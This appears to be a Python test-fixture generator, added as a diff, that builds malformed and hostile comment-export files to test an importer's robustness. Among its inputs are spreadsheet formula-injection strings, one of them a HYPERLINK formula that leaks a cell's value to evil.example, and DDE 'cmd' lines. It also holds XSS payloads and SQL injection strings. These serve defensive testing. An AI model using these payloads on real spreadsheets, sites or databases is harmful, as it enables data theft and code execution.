@@ -1,0 +1,468 @@
+"""A corpus of hostile and broken comment exports, generated (nothing here is real data).
+
+Each case says what a correct import does with it:
+
+* ``error``  - refused with an IngestError whose message matches ``match``;
+* ``ok``     - imported, and every text in ``texts`` is stored exactly as written;
+* ``either`` - a clear IngestError or a correct import (e.g. a half-written last CSV row may be
+  reported as a rejected row); what is never acceptable is a crash or a partial import.
+
+``python tests/hostile/make_corpus.py OUTDIR`` writes every file for inspection by hand.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import sys
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+POST_URL = "https://www.instagram.com/p/CIhostile01/"
+BASE_TEXTS = (
+    "Semoga bansos cepat cair, Bu",
+    "Kapan BST bulan ini dicairkan?",
+    "Terima kasih Kemensos 🙏",
+)
+ZW = "\u200b\u200c\u200d\u2060\ufeff"  # zero-width space/joiners, word joiner, BOM
+RTL = "\u202e\u200f\u061c"  # right-to-left override, RLM, Arabic letter mark
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    file_name: str
+    make: Callable[[], bytes]
+    expect: str  # "error" | "ok" | "either"
+    match: str = ""  # regex the error message must match (expect == "error")
+    texts: tuple[str, ...] = ()  # texts that must be stored verbatim (expect == "ok")
+    settings: dict = field(default_factory=dict)  # Settings overrides (limits)
+    heavy: bool = False  # run in a memory-capped subprocess: a blow-up must not take CI down
+
+    def data(self) -> bytes:
+        return self.make()
+
+
+# --- well-formed building blocks ---------------------------------------------------------------
+
+
+def apify_item(i: int, text: str, *, ts: str = "2020-12-06T03:15:00.000Z", **extra) -> dict:
+    item = {
+        "id": str(17900000000000000 + i),
+        "text": text,
+        "ownerUsername": f"warga_{i}",
+        "timestamp": ts,
+        "likesCount": i % 7,
+        "postUrl": POST_URL,
+        "repliesCount": 0,
+        "replies": [],
+    }
+    item.update(extra)
+    return item
+
+
+def apify_json(texts=BASE_TEXTS, **extra) -> bytes:
+    items = [apify_item(i, t, **extra) for i, t in enumerate(texts)]
+    return json.dumps(items, ensure_ascii=False).encode("utf-8")
+
+
+EC_HEADER = [
+    "", "", "Name", "Username", "Profile ID", "Date", "Likes", "Comment", "User Verified",
+    "Thumbnail", "Comment ID", "Profile URL", "Comment URL",
+]  # fmt: skip
+
+
+def ec_rows(texts=BASE_TEXTS, dates=None) -> list[list[str]]:
+    rows = []
+    for i, text in enumerate(texts):
+        cid = str(18100000000000000 + i)
+        date = dates[i] if dates else f"2020-12-0{1 + i % 9} 10:1{i % 10}:00"
+        rows.append(
+            [str(i + 1), "", f"Warga {i}", f"warga_{i}", str(4000 + i), date, str(i), text, "No",
+             "", cid, f"https://www.instagram.com/warga_{i}", f"{POST_URL}c/{cid}/"]
+        )  # fmt: skip
+    return rows
+
+
+def ec_csv(
+    texts=BASE_TEXTS, *, delimiter=",", encoding="utf-8", dates=None, newline="\r\n"
+) -> bytes:
+    buf = io.StringIO()
+    writer = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
+    writer.writerow(EC_HEADER)
+    writer.writerows(ec_rows(texts, dates))
+    return buf.getvalue().encode(encoding)
+
+
+def xlsx(rows: list[list[object]]) -> bytes:
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    for row in rows:
+        ws.append(row)
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+# --- the cases --------------------------------------------------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+)
+HTML = (
+    "<script>alert('xss')</script> bansos kapan cair?",
+    "<img src=x onerror=alert(1)> tolong dicek",
+    "</textarea><b>tebal</b> &amp; &lt;lt&gt; javascript:alert(1)",
+)
+ZERO_WIDTH = (f"ban{ZW}sos ka{ZW}pan cair", f"{ZW}terima kasih", "a\u200bb\u00ad\u034fc")
+RTL_TEXTS = (f"{RTL}riac nakapak sosnab", "مرحبا bansos \u200f kapan", f"abc{RTL}def\u202c")
+
+
+def _truncate(data: bytes, keep: float) -> bytes:
+    return data[: max(1, int(len(data) * keep))]
+
+
+def _nesting_bomb(depth: int) -> bytes:
+    return b"[" * depth + b"]" * depth
+
+
+def _dict_bomb(depth: int) -> bytes:
+    inner = "{}"
+    for _ in range(depth):
+        inner = '{"replies": [' + inner + "]}"
+    item = apify_item(0, "dalam")
+    return ("[" + json.dumps(item)[:-1] + ', "owner": ' + inner + "}]").encode()
+
+
+def _million_columns() -> bytes:
+    header = ",".join(f"c{i}" for i in range(1_000_000))
+    return (header + "\n" + "," * 999_999 + "\n").encode()
+
+
+def _big_cell() -> bytes:
+    return ec_csv(["x" * (10 * 1024 * 1024), "normal"])
+
+
+def _big_json_cell() -> bytes:
+    return apify_json(["y" * (10 * 1024 * 1024), "normal"])
+
+
+def _xlsx_cases() -> list[Case]:
+    header = EC_HEADER
+    good = [header, *ec_rows(BASE_TEXTS)]
+    with_formulas = [header, *ec_rows(FORMULAS)]
+    return [
+        Case("xlsx_ok", "ok.xlsx", lambda: xlsx(good), "ok", texts=BASE_TEXTS),
+        Case(
+            "xlsx_formula_cells",
+            "formula.xlsx",
+            lambda: xlsx(with_formulas),
+            "either",
+        ),
+        Case(
+            "xlsx_truncated",
+            "cut.xlsx",
+            lambda: _truncate(xlsx(good), 0.6),
+            "error",
+            match=r"(?i)workbook|xlsx|zip|read",
+        ),  # fmt: skip
+        Case("xlsx_empty_sheet", "empty.xlsx", lambda: xlsx([]), "error"),
+        Case("zip_not_xlsx", "data.xlsx", _plain_zip, "error", match=r"(?i)xlsx|workbook"),
+        Case("xlsx_header_only", "header.xlsx", lambda: xlsx([header]), "either"),
+    ]
+
+
+def _plain_zip() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        zf.writestr("comments.csv", ec_csv().decode())
+    return out.getvalue()
+
+
+def cases() -> list[Case]:
+    """Every hostile input, cheapest first."""
+    base_json = apify_json()
+    base_csv = ec_csv()
+    items = [
+        # --- empty and not-a-table ---
+        Case("empty", "empty.csv", lambda: b"", "error", match=r"(?i)empty"),
+        Case("whitespace_only", "blank.csv", lambda: b" \r\n\t\n\n", "error", match=r"(?i)empty"),
+        Case("bom_only", "bom.csv", lambda: b"\xef\xbb\xbf", "error", match=r"(?i)empty"),
+        Case(
+            "binary_garbage",
+            "noise.csv",
+            lambda: bytes(range(256)) * 64,
+            "error",
+            match=r"(?i)binary|not a csv",
+        ),  # fmt: skip
+        Case("png_named_csv", "image.csv", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "error"),
+        Case("gzip", "export.json", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 100, "error"),
+        Case(
+            "old_xls",
+            "old.xls",
+            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
+            "error",
+            match=r"(?i)xls",
+        ),  # fmt: skip
+        Case("single_column_text", "notes.csv", lambda: b"halo\napa kabar\n", "error"),
+        # --- truncated ---
+        Case(
+            "json_truncated",
+            "cut.json",
+            lambda: _truncate(base_json, 0.5),
+            "error",
+            match=r"(?i)json",
+        ),  # fmt: skip
+        Case(
+            "json_truncated_in_string",
+            "cut2.json",
+            lambda: base_json[: base_json.index(b"cair")],
+            "error",
+            match=r"(?i)json",
+        ),  # fmt: skip
+        Case(
+            "csv_truncated_in_quote",
+            "cut.csv",
+            lambda: base_csv[: base_csv.rindex(b"Terima") + 4],
+            "either",
+        ),  # fmt: skip
+        Case(
+            "csv_header_only", "header.csv", lambda: base_csv.split(b"\r\n")[0] + b"\r\n", "either"
+        ),
+        # --- JSON shapes ---
+        Case("json_object", "obj.json", lambda: b'{"hello": "world"}', "error"),
+        Case("json_scalar_array", "nums.json", lambda: b"[1, 2, 3]", "error"),
+        Case("json_null", "null.json", lambda: b"[null]", "error"),
+        Case("json_nesting_bomb", "bomb.json", lambda: _nesting_bomb(200_000), "error", heavy=True),
+        Case("json_dict_bomb", "dictbomb.json", lambda: _dict_bomb(5_000), "either", heavy=True),
+        Case(
+            "json_nan_infinity",
+            "nan.json",
+            lambda: apify_json(BASE_TEXTS).replace(b'"likesCount": 1', b'"likesCount": NaN'),
+            "either",
+        ),  # fmt: skip
+        Case("json_bom", "bom.json", lambda: b"\xef\xbb\xbf" + base_json, "ok", texts=BASE_TEXTS),
+        Case(
+            "json_nulls_between_items",
+            "holes.json",
+            lambda: b"[null, " + base_json[1:-1] + b', 42, "x"]',
+            "either",
+        ),  # fmt: skip
+        Case(
+            "json_lone_surrogate",
+            "surrogate.json",
+            lambda: (
+                b'[{"id": "1", "text": "halo \\ud800 dunia", "ownerUsername": "a",'
+                b' "timestamp": "2020-12-06T03:15:00.000Z", "postUrl": "'
+                + POST_URL.encode()
+                + b'"}]'
+            ),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "json_nul_char",
+            "nul.json",
+            lambda: apify_json(["nol\u0000byte di tengah", "biasa"]),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "json_wrong_types",
+            "types.json",
+            lambda: json.dumps(
+                [
+                    apify_item(0, ["list"]),
+                    apify_item(1, {"d": 1}),
+                    apify_item(2, 12345),
+                    apify_item(3, "teks biasa"),
+                ]
+            ).encode(),
+            "either",
+        ),  # fmt: skip
+        # --- encodings ---
+        Case(
+            "utf16_csv", "utf16.csv", lambda: ec_csv(encoding="utf-16"), "ok", texts=BASE_TEXTS[:2]
+        ),
+        Case(
+            "cp1252_csv",
+            "cp1252.csv",
+            lambda: ec_csv(["café enak", "naïve ½"], encoding="cp1252"),
+            "ok",
+            texts=("café enak", "naïve ½"),
+        ),  # fmt: skip
+        Case(
+            "invalid_utf8_bytes",
+            "bad-utf8.csv",
+            lambda: ec_csv(["AAAA", "BBBB"]).replace(b"AAAA", b"A\xff\xfe\xc3(A"),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "mixed_encodings",
+            "mixed.csv",
+            lambda: ec_csv(["çà UTF8", "LATIN1"]).replace(b"LATIN1", "latïn1".encode("latin-1")),
+            "either",
+        ),  # fmt: skip
+        # --- delimiters and layout ---
+        Case("semicolon_csv", "semi.csv", lambda: ec_csv(delimiter=";"), "ok", texts=BASE_TEXTS),
+        Case(
+            "mixed_delimiters",
+            "mixed-delim.csv",
+            lambda: (
+                base_csv.split(b"\r\n", 1)[0] + b"\r\n" + ec_csv(delimiter=";").split(b"\r\n", 1)[1]
+            ),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "ragged_rows",
+            "ragged.csv",
+            lambda: base_csv + b"1,2,3\r\n" + b",".join([b"x"] * 40) + b"\r\n",
+            "either",
+        ),  # fmt: skip
+        Case("cr_only_newlines", "mac.csv", lambda: ec_csv(newline="\r"), "either"),
+        Case(
+            "nul_bytes_in_csv",
+            "nul.csv",
+            lambda: base_csv.replace(b"Semoga", b"Sem\x00oga"),
+            "either",
+        ),
+        Case(
+            "million_columns",
+            "wide.csv",
+            _million_columns,
+            "error",
+            match=r"(?i)column",
+            heavy=True,
+        ),
+        Case("no_newline_10mb", "line.csv", lambda: b"a," * (5 * 1024 * 1024), "error", heavy=True),
+        Case(
+            "duplicate_header_names",
+            "dupe.csv",
+            lambda: base_csv.replace(b"Thumbnail", b"Comment", 1),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "missing_required_column",
+            "nodate.csv",
+            lambda: base_csv.replace(b"Date", b"Tanggal", 1),
+            "error",
+        ),  # fmt: skip
+        # --- huge cells ---
+        Case("csv_10mb_cell", "bigcell.csv", _big_cell, "either", heavy=True),
+        Case("json_10mb_cell", "bigcell.json", _big_json_cell, "either", heavy=True),
+        Case(
+            "long_author_and_id",
+            "long.json",
+            lambda: json.dumps(
+                [
+                    apify_item(0, "ok", ownerUsername="u" * 5000, id="9" * 5000),
+                    apify_item(1, "teks kedua"),
+                ]
+            ).encode(),
+            "either",
+        ),  # fmt: skip
+        # --- dates ---
+        Case(
+            "year_9999",
+            "y9999.csv",
+            lambda: ec_csv(
+                ["masa depan", "hari ini"], dates=["9999-12-31 23:59:59", "2020-12-06 10:00:00"]
+            ),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "year_0001_and_garbage_dates",
+            "y1.json",
+            lambda: json.dumps(
+                [
+                    apify_item(0, "kuno", timestamp="0001-01-01T00:00:00Z"),
+                    apify_item(1, "aneh", timestamp="kemarin sore"),
+                    apify_item(2, "offset", timestamp="2020-12-06T03:15:00+25:00"),
+                    apify_item(3, "epoch", timestamp=1e20),
+                    apify_item(4, "benar"),
+                ]
+            ).encode(),
+            "either",
+        ),  # fmt: skip
+        Case(
+            "all_dates_bad",
+            "nodates.json",
+            lambda: json.dumps(
+                [
+                    apify_item(0, "a", timestamp="9999-01-01T00:00:00Z"),
+                    apify_item(1, "b", timestamp=""),
+                ]
+            ).encode(),
+            "either",
+        ),  # fmt: skip
+        # --- content that must survive verbatim ---
+        Case("formula_cells_csv", "formula.csv", lambda: ec_csv(FORMULAS), "ok", texts=FORMULAS),
+        Case("html_script", "html.json", lambda: apify_json(HTML), "ok", texts=HTML),
+        Case("zero_width", "zw.json", lambda: apify_json(ZERO_WIDTH), "ok", texts=ZERO_WIDTH),
+        Case("rtl_marks", "rtl.json", lambda: apify_json(RTL_TEXTS), "ok", texts=RTL_TEXTS),
+        Case(
+            "emoji_astral",
+            "emoji.csv",
+            lambda: ec_csv(["😡😡😡 kapan cair", "𝕓𝕒𝕟𝕤𝕠𝕤 👍🏽"]),
+            "ok",
+            texts=("😡😡😡 kapan cair", "𝕓𝕒𝕟𝕤𝕠𝕤 👍🏽"),
+        ),  # fmt: skip
+        Case(
+            "sql_in_text",
+            "sql.json",
+            lambda: apify_json(["'); DROP TABLE comments;--", '" OR 1=1 --']),
+            "ok",
+            texts=("'); DROP TABLE comments;--", '" OR 1=1 --'),
+        ),  # fmt: skip
+        Case(
+            "newlines_in_cells",
+            "multiline.csv",
+            lambda: ec_csv(["baris satu\nbaris dua", "a\r\nb"]),
+            "either",
+        ),  # fmt: skip
+        # --- limits ---
+        Case(
+            "over_row_limit",
+            "many.json",
+            lambda: apify_json([f"teks {i}" for i in range(50)]),
+            "error",
+            match=r"max_rows_per_import|rows",
+            settings={"max_rows_per_import": 10},
+        ),  # fmt: skip
+        Case(
+            "over_size_limit",
+            "big.json",
+            lambda: apify_json([f"teks {i} " + "z" * 1000 for i in range(1500)]),
+            "error",
+            match=r"max_upload_mb|MB",
+            settings={"max_upload_mb": 1},
+        ),  # fmt: skip
+        Case(
+            "over_cell_limit",
+            "cell.json",
+            lambda: apify_json(["p" * 500, "pendek"]),
+            "either",
+            settings={"max_cell_chars": 100},
+        ),  # fmt: skip
+    ]
+    return items + _xlsx_cases()
+
+
+def main(out_dir: str) -> int:
+    target = Path(out_dir)
+    target.mkdir(parents=True, exist_ok=True)
+    for case in cases():
+        (target / f"{case.name}__{case.file_name}").write_bytes(case.data())
+    print(f"wrote {len(cases())} files to {target}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
